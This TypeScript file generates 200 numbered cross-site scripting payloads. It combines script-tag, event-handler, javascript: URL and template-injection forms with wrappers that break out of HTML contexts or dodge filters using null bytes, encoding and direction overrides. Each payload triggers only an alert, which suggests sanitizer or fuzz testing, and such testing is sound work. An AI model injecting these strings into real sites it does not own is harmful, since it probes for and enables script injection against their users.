/** Ways to run a script from markup, from an address or from a template; `X` is the script. */
const FORMS = [
	'<script>X</script>',
	'<img src=x onerror=X>',
	'<svg onload=X>',
	'<svg><script>X</script></svg>',
	'<body onload=X>',
	'<iframe src="javascript:X"></iframe>',
	'<iframe srcdoc="<script>parent.X</script>"></iframe>',
	'<a href="javascript:X" autofocus onfocus=X>x</a>',
	'<math><mtext></form><form><mglyph><style></math><img src onerror=X>',
	'<details open ontoggle=X>',
	'<video><source onerror=X></video>',
	'<audio src=x onerror=X>',
	'<input autofocus onfocus=X>',
	'<marquee onstart=X>',
	'<object data="javascript:X"></object>',
	'<embed src="javascript:X">',
	'<form><button formaction="javascript:X">x',
	'<style>@import "javascript:X"</style>',
	'<base href="javascript:X//">',
	'<meta http-equiv=refresh content="0;url=javascript:X">',
	'<noscript><p title="</noscript><img src=x onerror=X>">',
	'<svg><animate onbegin=X attributeName=x dur=1s>',
	'javascript:X',
	'data:text/html,<script>X</script>',
	"{{constructor.constructor('X')()}}",
] as const;

/** What stands around them: ends of the places that a value may be written into, and ways to hide. */
const WRAPS: readonly ((form: string) => string)[] = [
	(form) => form,
	(form) => `">${form}`,
	(form) => `' autofocus onfocus=alert() x='${form}`,
	(form) => `</title></textarea></script>${form}`,
	(form) => `-->]]>${form}<!--`,
	(form) => form.replaceAll('<', '<\u0000').replaceAll('script', 'scr\u0000ipt'),
	(form) => form.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
	(form) => `\u202e${form.toUpperCase().replaceAll('ALERT', 'alert')}`,
];

/** Two hundred texts that would open a dialog, each with a number of its own, where a page takes one of them for markup. */
export const PAYLOADS: readonly string[] = WRAPS.flatMap((wrap) => FORMS.map(wrap)).map((payload, at) =>
	payload.replaceAll('X', `alert(${at})`),
);

/** The payloads in groups, written one after the other: few enough for the first page of every list. */
export function payloadGroups(count: number): string[] {
	const size = Math.ceil(PAYLOADS.length / count);
	return Array.from({ length: count }, (_, at) => PAYLOADS.slice(at * size, (at + 1) * size).join(' '));
}
